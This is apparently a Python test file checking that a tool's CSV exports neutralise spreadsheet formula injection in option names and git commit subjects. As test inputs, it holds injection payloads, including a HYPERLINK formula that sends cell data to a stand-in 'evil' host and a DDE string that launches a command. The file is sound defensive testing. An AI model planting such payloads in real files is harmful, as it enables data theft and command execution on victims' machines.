"""CSV output from a pull request cannot carry a formula into a spreadsheet.

Option names reach `score --format csv` and commit subjects reach `history --format csv`;
a cell that starts with a formula character, also after leading spaces, quotes or
invisible characters, or in its full-width form, is written with a leading `'`.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from bpstrat.history.timeline import read_history
from bpstrat.report import history_csv
from bpstrat.report.csv_cells import cell
from tests.helpers import Writer, git, score_out

HIDDEN = [" =1+1", '"=HYPERLINK("http://x")', "'@SUM(A1)", "\u200b=1", "\uff1dSUM(A1)", "\n-2+3"]


def test_formulas_behind_spaces_quotes_or_full_width_forms_are_neutralised(root: Writer) -> None:
    options = ", ".join(f"{{id: o{i}, name: {json.dumps(n)}}}" for i, n in enumerate(HIDDEN))
    base = root(
        {
            "d.yaml": f"kind: dimension\nid: d\nname: D\noptions: [{options}]\n",
            "web.yaml": "kind: consumer\nid: web\nname: Web\nimportance: 3\n"
            "demands: [{dimension: d, option: o0, strength: must}]\n",
        }
    )
    rows = list(csv.DictReader(io.StringIO(score_out(base, "csv"), newline="")))
    assert [r["name"] for r in rows if r["row"] == "option"] == ["'" + n for n in HIDDEN]
    assert cell(" -1") == "' -1" and cell("-1") == "-1" and cell("1e3") == "1e3"
    assert cell("a=b") == "a=b" and cell(" plain") == " plain" and cell("") == ""


def test_a_commit_subject_in_the_history_csv_is_not_a_formula(repo: Path) -> None:
    strategy = repo / "strategy"
    subjects = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", " +1+1"]
    consumer = strategy / "consumers" / "checkout-web.yaml"
    for number, subject in enumerate(subjects):
        consumer.write_text(consumer.read_text() + f"# {number}\n")
        git(repo, "commit", "-qam", subject)
    text = history_csv.render(read_history(strategy))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["subject"] for r in rows][-3:] == ["'" + s for s in subjects]
